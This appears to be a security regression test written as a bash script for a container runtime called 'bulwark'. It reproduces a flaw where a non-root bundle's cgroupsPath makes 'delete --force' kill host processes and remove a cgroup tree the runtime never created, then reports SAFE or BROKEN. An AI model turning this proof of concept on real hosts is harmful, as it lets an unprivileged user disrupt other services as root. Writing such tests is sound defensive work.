#!/bin/bash
# Attack: linux.cgroupsPath in the bundle's config (written by its owner,
# who need not be root) may name any existing cgroup that has no process
# in it right now (runtime/cgroups.c bw_ctr_cgroup_prepare checks only
# that). The container joins it; `delete --force` (and gc, once the
# container's init is gone) then runs cgroup.kill on it and removes it
# with everything nested (cgroup.c bw_cgroup_kill, remove_tree): a cgroup
# tree bulwark never made, and every host process that a manager put in
# it meanwhile, as host root. Stands here for a service manager's cgroup
# that is empty while its service is stopped.
# Runs in a private mount namespace with a tmpfs id-range store.
# Expected safe outcome: delete removes only what bulwark made (record
#   which directories create made, and kill/remove only those, or refuse
#   a cgroupsPath that exists already and was not made by bulwark); no
#   process outside the container is signalled.
# Observed (2026-12-07, restricted profile, cgroup v1+v2 hybrid): the
#   pre-existing /atk18-victim/keep tree is gone from every hierarchy and
#   the host process placed in it after create is SIGKILLed.
set -u
source "$(dirname "$0")/lib.sh"
private_store "$@"
setup_bundle
R=$(mktemp -d /tmp/bw-atk-cgpath.XXXXXX)
V=bw-atk-victim-$$
S=""
HIER=()
for m in $(awk '$3 == "cgroup" || $3 == "cgroup2" {print $2}' /proc/self/mounts); do HIER+=("$m"); done
cleanup() {
  "$BULWARK" --root "$R" delete --force c1 >/dev/null 2>&1
  [[ -n $S ]] && kill "$S" 2>/dev/null; wait 2>/dev/null
  for h in "${HIER[@]}"; do rmdir "$h/$V/keep" "$h/$V" 2>/dev/null; done
  rm -rf "$R" "$R.err"; teardown_bundle
}
trap cleanup EXIT
V2=$(awk '$3 == "cgroup2" {print $2; exit}' /proc/self/mounts)
PROCS_DIR=${V2:-$(awk '$3 == "cgroup" && $4 ~ /pids/ {print $2; exit}' /proc/self/mounts)}
# someone else's cgroup tree, empty for now, where a service manager keeps
# its services (cgroup v2; on a hybrid host v1's devices hierarchy would
# refuse the container's device rules below a child, so not there)
mkdir -p "$PROCS_DIR/$V/keep"
config_edit --arg p "/$V" '.linux.cgroupsPath=$p | .process.args=["sleep","1824"]'
"$BULWARK" --root "$R" --profile restricted run -d --bundle "$BUNDLE" c1 </dev/null >/dev/null 2>"$R.err" ||
  { cat "$R.err"; echo "create refused"; verdict SAFE "a cgroupsPath naming a cgroup bulwark did not make is refused"; exit 0; }
echo "container c1 runs in /$V (created with exit 0 under --profile restricted)"
# the tree's owner starts its service: a host process in /$V/keep
sleep 1825 & S=$!
echo "$S" >"$PROCS_DIR/$V/keep/cgroup.procs"
"$BULWARK" --root "$R" delete --force c1; echo "delete --force: exit $?"
sleep 0.5
killed=no; tree=kept
kill -0 "$S" 2>/dev/null || killed=yes
[[ -d $PROCS_DIR/$V/keep ]] || tree=removed
echo "host process $S killed: $killed; /$V/keep: $tree"
if [[ $killed == yes || $tree == removed ]]; then
  verdict BROKEN "delete --force of a bundle's container killed a host process ($killed) and removed a cgroup tree it did not make ($tree)"
else
  verdict SAFE "the foreign tree and its process were left alone"
fi
